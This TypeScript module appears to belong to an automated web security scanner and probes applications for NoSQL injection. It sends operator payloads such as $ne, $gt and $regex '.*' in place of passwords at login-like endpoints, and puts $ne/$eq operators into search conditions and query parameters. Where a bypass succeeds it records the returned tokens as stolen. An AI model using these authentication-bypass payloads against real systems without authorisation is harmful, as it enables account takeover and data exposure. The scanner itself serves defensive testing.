import type { SendOptions } from '../client.ts'
import { isEmailName, namesUser } from '../identities/credential-fields.ts'
import { letsIn } from '../identities/login.ts'
import { type InjectionPoint, nameOf, sendAt } from '../injection-points.ts'
import type { Operation } from '../operations.ts'
import type { Probing } from '../probing.ts'
import { headerOf, isHtml, isSuccess, jsonOf, normalised, type Reply } from '../reply.ts'
import { draftOf, requestOf, valueAt } from '../requests.ts'
import { tokensOf } from '../session.ts'
import { itemsOf } from '../state.ts'
import { exchangesOf, trialOn } from '../trial-parts.ts'
import { operatorsInForms } from './nosql-forms.ts'
import { textOfPage } from './same-object.ts'

/** Fields that hold what only the user knows. */
const SECRET = /pass|pwd|^pin|pin$|code$|otp|secret|answer/i
/** Fields that hold conditions of a search, where nobody told their names. */
const CONTAINERS = ['filter', 'where', 'query', 'selector', 'criteria', 'conditions']

interface Entrance {
  readonly operation: Operation
  /** Field that holds the secret. */
  readonly field: string
  readonly send: (name: unknown, secret: unknown) => Promise<Reply>
}

/** Operators of document databases in place of plain values: at the login and its like, in parameters, and in the conditions of searches. */
export async function probeNosqlInjection(probing: Probing, points: readonly InjectionPoint[]): Promise<void> {
  for (const entrance of entrancesOf(probing)) await atEntrance(probing, entrance)
  await operatorsInForms(probing)
  for (const point of points) await atPoint(probing, point)
  for (const operation of probing.wireOperations) if (isSearch(operation)) await inConditions(probing, operation)
}

/** The login, and what else lets somebody in for a name and a secret: a PIN, a code, an answer. */
function entrancesOf(probing: Probing): readonly Entrance[] {
  const { login, entrance, register } = probing.identities
  const send = (request: SendOptions): Promise<Reply> => {
    probing.client.takeNextAddress()
    return probing.client.send({ ...request, identity: 'forged', mayFail: true })
  }
  const own: Entrance[] = []
  if (login !== null && entrance !== null)
    own.push({
      operation: login,
      field: entrance.passwordField,
      send: async (name, secret) => {
        const { page: _page, ...request } = await entrance.requestFor(name, secret)
        return send(request)
      },
    })
  for (const operation of probing.wireOperations) {
    const names = Object.keys(operation.body?.schema.properties ?? {})
    const field = names.find((name) => SECRET.test(name))
    const user = names.find(namesUser) ?? names.find((name) => name !== field && /card|number|member|customer|code|id$|phone/i.test(name))
    if (operation.method !== 'POST' || operation === login || operation === register || operation.path.includes('{')) continue
    if (user === undefined || field === undefined || names.length > 4 || /reset|forgot|change|verif|regist|sign-?up/i.test(operation.path))
      continue
    const draft = draftOf(operation, probing.values, {}, {})
    own.push({
      operation,
      field,
      send: (name, secret) => send(requestOf({ ...draft, body: { ...draft.body, [user]: name, [field]: secret } })),
    })
  }
  return own.slice(0, 4)
}

async function atEntrance(probing: Probing, { operation, field, send }: Entrance): Promise<void> {
  const { login, userA } = probing.identities
  const credentials = userA?.credentials ?? null
  const names = Object.keys(operation.body?.schema.properties ?? {})
  const known =
    credentials === null
      ? ''
      : operation !== login && names.some(isEmailName)
        ? credentials.email
        : probing.identities.loginNameOf(credentials)
  const plain = await send(known || 'nobody', probing.values.nonce('secret', 14))
  const place = headerOf(plain, 'location')
  // A page lets somebody in by sending the browser elsewhere than after a refusal.
  const isIn = (reply: Reply): boolean =>
    letsIn(reply, operation) &&
    (isSuccess(reply)
      ? tokensOf(reply).access !== null || Object.keys(tokensOf(reply).cookies).length > 0
      : plain.status !== reply.status || place !== headerOf(reply, 'location'))
  for (const [name, payload, twin] of [
    ['$ne', { $ne: probing.values.nonce('other') }, { $eq: probing.values.nonce('equal') }],
    ['$gt', { $gt: '' }, { $lt: '' }],
    ['$regex', { $regex: '.*' }, { $regex: `^${probing.values.nonce('never')}$` }],
  ] as const) {
    for (const user of [known, payload]) {
      if (user === '') continue
      const reply = await send(user, payload)
      if (!isIn(reply)) continue
      const control = await send(user, twin)
      const again = await send(user, payload)
      for (const stolen of [reply, again]) {
        const token = tokensOf(stolen).access
        if (token !== null) probing.client.masking.add(token, '$STOLEN_TOKEN')
      }
      if (isIn(control) || !isIn(again)) continue
      probing.trial(
        'nosqlInjection',
        trialOn(operation, {
          name: `login ${name}`,
          parameter: `body ${field}`,
          saw: 'effect',
          effect: `the operator ${name} in place of the secret logs in, ${Object.keys(twin)[0]} does not`,
          identity: 'forged',
          baseline: plain.exchange,
          control: control.exchange,
          attempts: exchangesOf(reply, again),
          reproduced: { count: 2, of: 2 },
        }),
      )
      return
    }
  }
  probing.trial(
    'nosqlInjection',
    trialOn(operation, {
      name: 'login',
      parameter: `body ${field}`,
      saw: plain.status === 429 ? 'blocked' : 'no-effect',
      effect: 'operators in place of the secret were refused',
      identity: 'forged',
      baseline: plain.exchange,
    }),
  )
}

function isSearch({ method, path, body, purpose }: Operation): boolean {
  return (
    method === 'POST' &&
    purpose === 'other' &&
    /search|query|filter|find|lookup/i.test(path) &&
    /json/.test(body?.contentType ?? 'application/json')
  )
}

/** Conditions inside an object of the body: one that no object meets empties the list, its negation fills it again. */
async function inConditions(probing: Probing, operation: Operation): Promise<void> {
  const accepted = await probing.acceptedBy(operation)
  if (accepted === null) return
  const { draft, session } = accepted
  const base = await probing.sendDraft(session, draft, { mayFail: true })
  const [first] = itemsOf(jsonOf(base)) ?? []
  const name = Object.keys(first ?? {}).find((key) => typeof first?.[key] === 'string' && !/id$|_at$|At$|date|token/i.test(key))
  if (first === undefined || name === undefined)
    return void probing.notTried(
      'nosqlInjection',
      `${operation.key}, conditions`,
      'no-data',
      'it answers no objects to find by a condition',
    )
  const declared = Object.entries(operation.body?.schema.properties ?? {})
    .filter(([, schema]) => schema.type === undefined || schema.type === 'object')
    .map(([field]) => field)
  const ask = (container: string, condition: unknown): Promise<Reply> =>
    probing.sendDraft(
      session,
      { ...draft, operation: asJson(operation), body: placed(draft.body ?? {}, container, name, condition) },
      { mayFail: true },
    )
  const count = (reply: Reply): number => (isSuccess(reply) ? (itemsOf(jsonOf(reply))?.length ?? -1) : -1)
  for (const container of [...new Set([...declared, ...CONTAINERS, ''])]) {
    const word = probing.values.nonce('condition')
    const none = await ask(container, { $eq: word })
    if (count(none) !== 0) continue
    const all = await ask(container, { $ne: word })
    const unknown = await ask(container, { $zz: word })
    const again = await ask(container, { $ne: `${word}x` })
    const isSeen = count(all) > 0 && count(again) === count(all) && count(unknown) !== count(all)
    probing.trial(
      'nosqlInjection',
      trialOn(operation, {
        name: 'conditions',
        parameter: `body ${container === '' ? name : container}`,
        saw: isSeen ? 'effect' : 'no-effect',
        effect: isSeen ? `$ne finds ${count(all)} objects where $eq finds none` : 'operators in conditions made no difference',
        identity: session?.name ?? 'anonymous',
        baseline: base.exchange,
        control: none.exchange,
        attempts: exchangesOf(all, again),
        reproduced: { count: isSeen ? 2 : 0, of: 2 },
      }),
    )
    if (isSeen) return
  }
}

function placed(body: Readonly<Record<string, unknown>>, container: string, name: string, condition: unknown): Record<string, unknown> {
  return container === '' ? { ...body, [name]: condition } : { ...body, [container]: { [name]: condition } }
}

function asJson(operation: Operation): Operation {
  return operation.body === null ? { ...operation, body: { contentType: 'application/json', isRequired: true, schema: {} } } : operation
}

async function atPoint(probing: Probing, point: InjectionPoint): Promise<void> {
  const { operation, draft, session } = point.accepted
  if (point.place.in === 'path') return
  const isReading = operation.method === 'GET' || /search|query|filter|find|login|lookup/i.test(operation.path)
  if (!isReading) return
  const word = probing.values.nonce('operator')
  const ask = (operator: string, value: string): Promise<Reply> => {
    if (point.place.in === 'body') return sendAt(probing, point, { [operator]: value })
    const { [point.place.name]: _replaced, ...query } = draft.query
    const request = requestOf({ ...draft, query: { ...query } })
    const separator = request.path.includes('?') ? '&' : '?'
    return probing.send(session, {
      ...request,
      path: `${request.path}${separator}${encodeURIComponent(point.place.name)}[${operator}]=${encodeURIComponent(value)}`,
      mayFail: true,
    })
  }
  const none = await sendAt(probing, point, word)
  const notEqual = await ask('$ne', word)
  const count = (reply: Reply): number => itemsOf(jsonOf(reply))?.length ?? -1
  const said = (reply: Reply): string => textOfPage(reply.body.replaceAll(word, '~'))
  const isPage = isHtml(none) && isHtml(notEqual) && isSuccess(none)
  const alike = (body: string): string => (isPage ? textOfPage(body) : normalised(body))
  const isMore = isPage ? said(notEqual) !== said(none) : count(notEqual) > 0 && count(none) === 0
  const equal = isSuccess(notEqual) && isMore ? await ask('$eq', word) : null
  const isOperator = equal !== null && isSuccess(equal) && (isPage ? said(equal) === said(none) : count(equal) === 0)
  const again = isOperator ? await ask('$ne', `${word}x`) : null
  const plainTwin = isOperator ? await ask('zz', word) : null
  const isSeen =
    isOperator &&
    again !== null &&
    alike(again.body.replaceAll(`${word}x`, word)) === alike(notEqual.body) &&
    plainTwin !== null &&
    alike(plainTwin.body.replaceAll('zz', '$ne')) !== alike(notEqual.body)
  probing.trial(
    'nosqlInjection',
    trialOn(operation, {
      name: '$ne and $eq',
      parameter: nameOf(point),
      saw: isSeen ? 'effect' : none.status === 429 ? 'blocked' : 'no-effect',
      effect: !isSeen
        ? 'operators made no difference'
        : isPage
          ? 'with $ne the page shows what it does not show with $eq and the plain word'
          : `$ne finds ${count(notEqual)} objects where $eq and the plain word find none`,
      identity: session?.name ?? 'anonymous',
      baseline: none.exchange,
      control: equal?.exchange ?? null,
      attempts: exchangesOf(notEqual, again),
      reproduced: { count: isSeen ? 2 : 0, of: 2 },
      details: { value: typeof valueAt(draft, point.place) },
    }),
  )
}
